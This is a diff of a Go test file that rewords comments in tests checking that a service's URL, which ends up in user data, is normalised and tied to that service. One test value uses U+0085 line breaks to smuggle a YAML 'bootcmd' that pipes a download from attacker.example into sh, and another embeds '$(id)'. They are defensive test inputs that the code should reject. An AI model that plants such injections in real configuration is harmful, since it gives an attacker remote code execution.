@@ -73,7 +73,7 @@ func TestServiceOverTLS(t *testing.T) {
 	}
 }
 
-// Whatever a service answers, it is asked once, and what it said is told.
+// Test that a service is asked once and that its answer is reported.
 func TestServiceAnswers(t *testing.T) {
 	t.Parallel()
 	text := func(body string) http.HandlerFunc {
@@ -144,8 +144,8 @@ func TestServiceAnswers(t *testing.T) {
 	}
 }
 
-// A service's answer goes into user data. So the URL is written anew, and it is
-// one of that service: another host would be one that nobody named.
+// Test that the URL of a service, which becomes part of user data, is
+// normalised and must be a URL of the same service.
 func TestServiceAnswerIsData(t *testing.T) {
 	var body string
 	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, body) }))
@@ -155,7 +155,7 @@ func TestServiceAnswerIsData(t *testing.T) {
 		server.URL + "/" + token3:                       server.URL + "/" + token3,
 		" " + server.URL + "/of/mine/" + token3 + "/\n": server.URL + "/of/mine/" + token3,
 		"HTTP://" + host + "//of/%6dine/" + token3:      server.URL + "/of/mine/" + token3,
-		// The proof of the finding: to YAML, U+0085 is a line break.
+		// YAML treats U+0085 as a line break.
 		server.URL + "/x\u0085bootcmd:\u0085- [ sh, -c, 'curl -s http://attacker.example/x | sh' ]\u0085write_files:\u0085  - path: /run/x/" + token3: "",
 		server.URL + "/$(id)/" + token3:              "",
 		server.URL + "/a b/" + token3:                "",
